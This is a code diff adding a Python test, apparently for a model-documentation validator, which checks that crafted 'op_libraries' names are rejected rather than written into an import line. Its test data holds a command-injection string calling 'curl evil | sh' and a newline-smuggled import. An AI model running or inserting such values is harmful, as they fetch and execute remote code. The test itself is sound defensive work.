@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import io
+import json
 import os
 import shutil
 import subprocess
@@ -135,6 +136,33 @@ def test_signature_summary_beside_the_doc_must_agree_with_format(valid_copy):
     (doc.parent / "1.signatures.json").write_text("{")
     (problem,) = validator.validate_file(doc, root=valid_copy)
     assert problem.line == 0 and "Cannot read the signature summary" in problem.message
+
+
+HOSTILE_OP_LIBRARIES = ["os; os.system('curl evil | sh')", "tensorflow_text\nimport shutil", 3]
+
+
+def test_op_libraries_that_are_not_module_names_are_dropped_and_reported(valid_copy):
+    """The model page writes `import <name>` for each: a crafted summary put code there."""
+    doc = valid_copy / "assets/docs/example/models/text-embedding/1.md"
+    summary = signatures.SignatureSummary("TF2 SavedModel", "saved_model_2", 1, 0, 0, ())
+    data = summary.to_json()
+    data["op_libraries"] = [*HOSTILE_OP_LIBRARIES, "tensorflow_text"]
+    (doc.parent / "1.signatures.json").write_text(json.dumps(data))
+    read = signatures.read_summary(doc.parent / "1.signatures.json")
+    assert read.op_libraries == ("tensorflow_text",)
+    assert read.refused_op_libraries == tuple(map(str, HOSTILE_OP_LIBRARIES))
+    assert read.to_json()["op_libraries"] == ["tensorflow_text"]
+    (problem,) = validator.validate_file(doc, root=valid_copy)
+    assert problem.line == 0
+    assert problem.message.startswith(
+        "1.signatures.json: 'op_libraries' names \"os; os.system('curl evil | sh')\", "
+        "'tensorflow_text\\nimport shutil', '3', which is not a module name (a dotted Python "
+        "identifier such as tensorflow_text);"
+    )
+    for name in ("tensorflow_text", "a.b_c", "_x"):
+        assert signatures.is_module_name(name)
+    for name in ("a..b", "a.", "import", "a.class", "émb", "os;x", "a b", "", None, 3):
+        assert not signatures.is_module_name(name)
 
 
 def test_validate_doc_alone_checks_a_doc_before_it_is_in_place(tmp_path):
